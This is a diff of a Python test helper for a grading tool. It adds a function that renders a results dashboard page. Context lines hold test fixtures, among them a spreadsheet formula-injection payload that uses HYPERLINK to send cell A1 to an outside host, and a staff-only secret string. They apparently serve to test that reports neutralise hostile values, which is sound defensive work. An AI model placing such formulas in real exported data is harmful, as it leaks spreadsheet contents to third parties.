@@ -2,11 +2,13 @@
 
 from __future__ import annotations
 
+from collections.abc import Sequence
 from typing import Any
 
 import msgspec
 
 from gradetape.records import CellEvent, Check, CheckResult, Grade, Question, Status, Unreadable, Verdict
+from gradetape.report import dashboard_view, index_page
 
 ASSIGNMENT = "custom-training"
 NASTY = (
@@ -15,6 +17,11 @@ NASTY = (
 )
 FORMULA = '=HYPERLINK("https://example.org?"&A1;"passed")'
 SECRET = "expected 2.5, which only staff may know"
+
+
+def a_dashboard(grades: Sequence[Grade], unreadable: Sequence[Unreadable], **about: Any) -> str:
+    """The dashboard as it stands at the top of a results folder."""
+    return index_page(dashboard_view(grades, unreadable, **about))
 
 
 def a_result(
